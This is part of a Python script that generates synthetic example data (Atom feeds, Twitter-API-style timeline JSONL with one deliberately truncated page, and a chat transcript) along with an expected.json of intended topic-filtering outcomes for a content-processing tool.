            f"    <id>tag:{host},2026:post-{100 + p.index}</id>",
            f"    <published>{p.when.isoformat()}</published>",
            f"    <updated>{updated.isoformat()}</updated>",
            f"    <author><name>{escape(p.author)}</name></author>",
        ]
        lines += [f"    <category term={quoteattr(c)}/>" for c in p.post.categories]
        lines += [
            f'    <summary type="text">{escape(p.post.lede)}</summary>',
            f'    <content type="html">{escape(p.html)}</content>',
            "  </entry>",
        ]
    lines += ["</feed>", ""]
    return "\n".join(lines)


# --- tweets ---

TWITTER_EPOCH_MS = 1288834974657
TWEET_FILES = (
    # (file, source name, first day, last day (exclusive), tweets per page)
    ("timeline-2026-08-10.jsonl", "x-timeline-aug-oct", datetime(2026, 8, 1, tzinfo=UTC), 100),
    ("timeline-2026-11.jsonl", "x-timeline-nov", datetime(2026, 11, 1, tzinfo=UTC), 50),
)
CORRUPT_LINE = 2  # of the November file: a page cut short when twarc2 was interrupted
LATEST = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
TAG_RE = re.compile(r"(?<![\w&])#(\w+)")
MENTION_RE = re.compile(r"(?<!\w)@(\w+)")
TCO_RE = re.compile(r"https://t\.co/\w+")


def user_id(username: str) -> str:
    """A stable 18-19 digit account id derived from the name (not from the generator's order)."""
    import hashlib

    digest = int(hashlib.blake2b(username.encode(), digest_size=8).hexdigest(), 16)
    return str(10**17 + digest % (9 * 10**18 - 10**17))


def snowflake(rng: random.Random, when: datetime) -> str:
    ms = int(when.timestamp() * 1000)
    return str(((ms - TWITTER_EPOCH_MS) << 22) | rng.getrandbits(22))


def tco(rng: random.Random) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    return "https://t.co/" + "".join(rng.choice(alphabet) for _ in range(10))


def filler_tweets(rng: random.Random, count: int) -> list[Tweet]:
    """Off-topic chatter: coffee, conference logistics, sports, job posts, spam, bare links."""
    seen: set[str] = set()
    out: list[Tweet] = []
    while len(out) < count:
        kind = rng.choices(
            ["coffee", "conf", "sports", "job", "spam", "link"], [14, 26, 20, 16, 8, 10]
        )[0]
        author, lang = rng.choice(FILLER_AUTHORS), "en"
        if kind == "coffee":
            text = rng.choice(COFFEE)
            if rng.random() < 0.6:
                text += rng.choice([" ☕", " Day {} of the sprint.", " Back to it.", " #coffee"])
                text = text.format(rng.randint(2, 12))
        elif kind == "conf":
            author = "ldconf_eu"
            text = rng.choice(CONF_LOGISTICS).format(
                s=f"{rng.randint(1, 6)}{rng.choice('ABCD')}",
                r=rng.randint(2, 24),
                r2=rng.randint(25, 30),
                l=rng.randint(0, 3),
                m=rng.choice([10, 15, 20, 30]),
            )
        elif kind == "sports":
            author = rng.choice(["footy_phil", "cityrunners", "ben_carter_ld", "travel_tina"])
            team, opp = rng.sample(TEAMS, 2)
            text = rng.choice(SPORTS).format(
                team=team,
                opp=opp,
                a=rng.randint(0, 4),
                b=rng.randint(0, 4),
                mood=rng.choice(MOODS),
                mins=rng.randint(19, 29),
                secs=rng.randint(0, 59),
            )
        elif kind == "job":
            author = "elearn_jobs"
            text = (
                f"We're hiring: {rng.choice(JOB_ROLES)}, {rng.choice(JOB_PLACES)}. Apply by"
                f" {rng.randint(1, 28)} Dec: {{link:https://jobs.example.com/{rng.randint(10000, 99999)}}}"
                " #jobs #hiring #elearning"
            )
        elif kind == "spam":
            author = rng.choice(["promo_king22", "earnfast_now"])
            text = rng.choice(SPAM) + f" {rng.choice('🔥💯✅🚀')}" * rng.randint(1, 3)
        else:
            text = f"{{link:{rng.choice(LINK_ONLY)}?ref={rng.randint(100, 999)}}}"
            lang = "zxx"
        if text in seen:
            continue
        seen.add(text)
        out.append(Tweet(f"f{len(out) + 1}", author, "other", text, lang=lang))
    return out


def build_tweets(rng: random.Random, posts: dict[str, list[BuiltPost]]) -> list[Tweet]:
    tweets = [
        Tweet(
            **{
                k: getattr(t, k)
                for k in ("key", "author", "role", "text", "reply", "quote", "rt", "hidden", "lang")
            }
        )
        for t in TWEETS
    ]
    tweets += filler_tweets(rng, 228)
    tweets.append(Tweet("spam_topic", "earnfast_now", "policy", SPAM_WITH_TOPIC_TAG))
    by_key = {t.key: t for t in tweets}
    for t in tweets:
        parent = by_key.get(t.reply or t.quote or t.rt)
        linked = re.search(r"\{post:(\w+):(\d+)\}", t.text)
        if parent is not None:
            delay = timedelta(minutes=rng.randint(4, 300 if t.reply else 2880))
            t.created = min(parent.created + delay, LATEST - timedelta(minutes=rng.randint(1, 60)))
            if t.created <= parent.created:
                t.created = parent.created + timedelta(seconds=rng.randint(30, 600))
        elif linked:
            post = posts[linked.group(1)][int(linked.group(2))]
            t.created = post.when.astimezone(UTC) + timedelta(minutes=rng.randint(20, 1800))
        else:
            t.created = START + timedelta(seconds=rng.randrange(int((END - START).total_seconds())))
        t.created = t.created.replace(microsecond=0)
        t.id = snowflake(rng, t.created)
        if t.rt:
            t.role = parent.role
        _render_text(rng, t, parent, posts)
    return tweets


def _render_text(rng, t: Tweet, parent: Tweet | None, posts) -> None:
    """Final text with t.co links; the URL entities are kept for the JSON."""
    if t.rt:
        body = f"RT @{parent.author}: {parent.final_text}"
        if len(body) > 140:  # the v2 API truncates retweet text; the original is in includes
            body = body[:139].rsplit(" ", 1)[0] + "…"
        t.final_text = body
        t.urls = [u for u in parent.urls if u["url"] in body]
        return
    text = t.text

    def link(match: re.Match) -> str:
        kind, rest = match.group(1), match.group(2)
        if kind == "post":
            blog, index = rest.split(":")
            target = posts[blog][int(index)].url
        else:
            target = rest
        short = tco(rng)
        display = target.split("//", 1)[1]
        display = display if len(display) <= 26 else display[:25] + "…"
        t.urls.append({"url": short, "expanded_url": target, "display_url": display})
        return short

    text = re.sub(r"\{(post|link):([^}]+)\}", link, text)
    if t.quote:
        short = tco(rng)
        target = f"https://twitter.com/{parent.author}/status/{parent.id}"
        t.urls.append({"url": short, "expanded_url": target, "display_url": target[8:34] + "…"})
        text = f"{text} {short}"
    t.final_text = text


def tweet_json(t: Tweet, by_key: dict[str, Tweet]) -> dict:
    rng = random.Random(int(t.id))  # the same metrics wherever the tweet is included
    text = t.final_text
    entities: dict[str, list] = {}
    urls = {u["url"]: u for u in t.urls}
    found = [
        {"start": m.start(), "end": m.end(), **urls[m.group(0)]}
        for m in TCO_RE.finditer(text)
        if m.group(0) in urls
    ]
    if found:
        entities["urls"] = found
    tags = [{"start": m.start(), "end": m.end(), "tag": m.group(1)} for m in TAG_RE.finditer(text)]
    if tags:
        entities["hashtags"] = tags
    mentions = [
        {"start": m.start(), "end": m.end(), "username": m.group(1), "id": user_id(m.group(1))}
        for m in MENTION_RE.finditer(text)
        if m.group(1) in USERS
    ]
    if mentions:
        entities["mentions"] = mentions
    record: dict = {
        "id": t.id,
        "text": text,
        "author_id": user_id(t.author),
        "created_at": t.created.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "lang": t.lang,
        "conversation_id": t.id,
        "edit_history_tweet_ids": [t.id],
        "possibly_sensitive": False,
        "reply_settings": "everyone",
        "public_metrics": {
            "retweet_count": rng.randint(0, 40) if not t.rt else 0,
            "reply_count": rng.randint(0, 6),
            "like_count": rng.randint(0, 120) if not t.rt else 0,
            "quote_count": rng.randint(0, 3),
        },
    }
    if entities:
        record["entities"] = entities
    if t.reply:
        parent = by_key[t.reply]
        root = parent
        while root.reply:
            root = by_key[root.reply]
        record["conversation_id"] = root.id
        record["in_reply_to_user_id"] = user_id(parent.author)
        record["referenced_tweets"] = [{"type": "replied_to", "id": parent.id}]
    elif t.quote:
        record["referenced_tweets"] = [{"type": "quoted", "id": by_key[t.quote].id}]
    elif t.rt:
        record["referenced_tweets"] = [{"type": "retweeted", "id": by_key[t.rt].id}]
    return record


def user_json(username: str) -> dict:
    return {
        "id": user_id(username),
        "name": USERS[username],
        "username": username,
        "created_at": "2012-03-14T09:26:53.000Z",
        "protected": False,
        "verified": False,
    }


def page_json(tweets: list[Tweet], by_key, next_token: str, query_user: str) -> dict:
    data = [tweet_json(t, by_key) for t in tweets]
    referenced = [by_key[t.reply or t.quote or t.rt] for t in tweets if t.reply or t.quote or t.rt]
    ref_tweets = {r.id: r for r in referenced}
    names: dict[str, None] = {}
    for t in [*tweets, *ref_tweets.values()]:
        names[t.author] = None
        names.update((m, None) for m in MENTION_RE.findall(t.final_text) if m in USERS)
    page = {
        "data": data,
        "includes": {"users": [user_json(n) for n in names]},
        "meta": {
            "result_count": len(data),
            "newest_id": tweets[0].id,
            "oldest_id": tweets[-1].id,
        },
        "__twarc": {
            "url": f"https://api.twitter.com/2/users/{user_id(query_user)}/timelines/"
            "reverse_chronological?max_results=100&expansions=author_id%2Creferenced_tweets.id"
            "%2Centities.mentions.username%2Cin_reply_to_user_id",
            "version": "2.14.0",
            "retrieved_at": "2026-11-26T13:05:00+00:00",
        },
    }
    if ref_tweets:
        page["includes"]["tweets"] = [tweet_json(r, by_key) for r in ref_tweets.values()]
    if next_token:
        page["meta"]["next_token"] = next_token
    return page


def timeline_files(rng: random.Random, tweets: list[Tweet]) -> dict[str, list[str]]:
    by_key = {t.key: t for t in tweets}
    visible = sorted((t for t in tweets if not t.hidden), key=lambda t: t.created, reverse=True)
    files: dict[str, list[str]] = {}
    for n, (name, _source, start, per_page) in enumerate(TWEET_FILES):
        end = TWEET_FILES[n + 1][2] if n + 1 < len(TWEET_FILES) else LATEST + timedelta(days=1)
        chosen = [t for t in visible if start <= t.created < end or (n == 0 and t.created < start)]
        pages = [chosen[i : i + per_page] for i in range(0, len(chosen), per_page)]
        lines = []
        for i, page in enumerate(pages):
            token = "" if i == len(pages) - 1 else f"7140dibdnow9c7btw4{rng.getrandbits(40):x}"
            lines.append(json.dumps(page_json(page, by_key, token, OWNER)))
        files[name] = lines
    nov = files[TWEET_FILES[1][0]]
    nov.insert(CORRUPT_LINE - 1, _corrupt_page(rng, by_key))
    return files


def _corrupt_page(rng: random.Random, by_key) -> str:
    """A page whose write was interrupted: valid JSON up to a point, then nothing."""
    lost = filler_tweets(random.Random(SEED + 1), 12)
    for i, t in enumerate(lost):
        t.created = datetime(2026, 11, 12, 9, 0, tzinfo=UTC) + timedelta(minutes=7 * i)
        t.id = snowflake(rng, t.created)
        _render_text(rng, t, None, {})
    lost.sort(key=lambda t: t.created, reverse=True)
    text = json.dumps(page_json(lost, by_key, "", OWNER))
    return text[: len(text) * 3 // 5]


# --- chat ---


def chat_transcript() -> tuple[str, int]:
    """The transcript text and its number of messages."""
    start = datetime.fromisoformat(f"{CHAT_DATE}T20:30:00{CHAT_OFFSET}")
    lines = [
        "# #lrnchat transcript, Thursday 19 November 2026, 8:30pm ET",
        "# Theme: making learning stick. Moderator: @lrnchat. Exported from the archive page.",
        "",
    ]
    for seconds, author, text in CHAT:
        stamp = (start + timedelta(seconds=seconds)).isoformat()
        lines.append(f"{stamp} @{author}: {text}")
        if seconds == 1220:  # a blank line before the last question, as the archive has it
            lines.insert(-1, "")
    lines.append("")
    return "\n".join(lines), len(CHAT)


def chat_threads() -> dict[int, list[tuple[str, str]]]:
    """Q number -> (author, text) of the question and its answers."""
    threads: dict[int, list[tuple[str, str]]] = {}
    for _, author, text in CHAT:
        m = re.match(r"^[QA](\d)", text)
        if m:
            threads.setdefault(int(m.group(1)), []).append((author, text))
    return threads


# --- expected outcomes ---


def expected(posts, tweets, files, chat_messages) -> dict:
    sources = {b.key: b.file.rsplit(".", 1)[0] for b in BLOGS}
    items, topics = [], {t: {"keep": [], "near_misses": []} for t in TOPICS.values()}

    def add(ref: dict, role: str) -> None:
        entry = {k: v for k, v in ref.items() if k not in ("text", "author")}
        entry["topics"] = roles_of(role)
        if near_of(role):
            entry["near_miss_for"] = near_of(role)
        items.append(entry)
        for topic in roles_of(role):
            topics[topic]["keep"].append(ref)
        if near_of(role):
            topics[near_of(role)]["near_misses"].append(ref)

    for blog in BLOGS:
        for p in posts[blog.key]:
            ref = {"source": sources[blog.key], "url": p.url, "title": p.post.title}
            add(ref, p.post.role)
    file_of = {name: source for name, source, _, _ in TWEET_FILES}
    placed = {}
    for name, lines in files.items():
        for line in lines:
            try:
                page = json.loads(line)
            except json.JSONDecodeError:
                continue
            for record in page["data"]:
                placed[record["id"]] = file_of[name]
    policy = []
    for t in sorted(tweets, key=lambda t: t.created):
        if t.hidden:
            continue
        ref = {"source": placed[t.id], "tweet_id": t.id, "author": t.author, "text": t.final_text}
        if t.role == "policy":
            policy.append(
                {**ref, "topic": TOPICS["ml"], "why": "spam with #microlearning; author blocked"}
            )
            continue
        add(ref, t.role)
    for n, thread in sorted(chat_threads().items()):
        ref = {"source": "lrnchat", "question": n, "title": f"Q{n}", "text": thread[0][1]}
        add(ref, CHAT_THREAD_ROLES[n] or "other")

    feeds = [
        {
            "file": f"feeds/{b.file}",
            "source": sources[b.key],
            "format": "rss20" if b.format == "rss" else "atom10",
            "entries": len(b.posts),
        }
        for b in BLOGS
    ]
    x_files = []
    for name, source, _, _ in TWEET_FILES:
        pages = [json.loads(x) for x in files[name] if _is_json(x)]
        x_files.append(
            {
                "file": f"x/{name}",
                "source": source,
                "lines": len(files[name]),
                "pages": len(pages),
                "posts": sum(len(p["data"]) for p in pages),
            }
        )
    participants = sorted({a for _, a, _ in CHAT})
    return {
        "about": "Outcomes the example data is designed for; written by tools/make_example.py.",
        "feeds": feeds,
        "feed_entries": sum(f["entries"] for f in feeds),
        "broken_feed": {"file": "feeds/broken.xml", "source": "broken-blog"},
        "x": {
            "files": x_files,
            "posts": sum(f["posts"] for f in x_files),
            "corrupt_line": f"x/{TWEET_FILES[1][0]}:{CORRUPT_LINE}",
            "includes_only_tweet_ids": [t.id for t in tweets if t.hidden],
        },
        "chat": {
            "file": "chats/lrnchat-2026-11-19.txt",
            "source": "lrnchat",
            "messages": chat_messages,
            "questions": len(chat_threads()),
            "participants": len(participants),
            "people": participants,
        },
        "topics": topics,
        "blocked": policy,
        "items": items,
    }


def _is_json(line: str) -> bool:
    try:
        json.loads(line)
    except json.JSONDecodeError:
        return False
    return True


# --- writing ---


def generate() -> dict[str, str]:
    """Relative path -> file content for everything under examples/data/."""
    rng = random.Random(SEED)
    posts = build_posts(rng)
    out: dict[str, str] = {}
    for blog in BLOGS:
        writer = rss_feed if blog.format == "rss" else atom_feed
        out[f"feeds/{blog.file}"] = writer(blog, posts[blog.key])
    out["feeds/broken.xml"] = BROKEN_FEED
    tweets = build_tweets(rng, posts)
    files = timeline_files(rng, tweets)
    for name, lines in files.items():
        out[f"x/{name}"] = "\n".join(lines) + "\n"
    transcript, messages = chat_transcript()
    out["chats/lrnchat-2026-11-19.txt"] = transcript
    facts = expected(posts, tweets, files, messages)
    out["expected.json"] = json.dumps(facts, indent=1, ensure_ascii=False) + "\n"
    return out


def write(out_dir: Path) -> list[Path]:
    written = []
    for rel, text in sorted(generate().items()):
        path = out_dir / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode("utf-8"))
        written.append(path)
    return written


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="folder to write into")
    args = parser.parse_args(argv)
    for path in write(args.out):
        print(path)


if __name__ == "__main__":
    main()
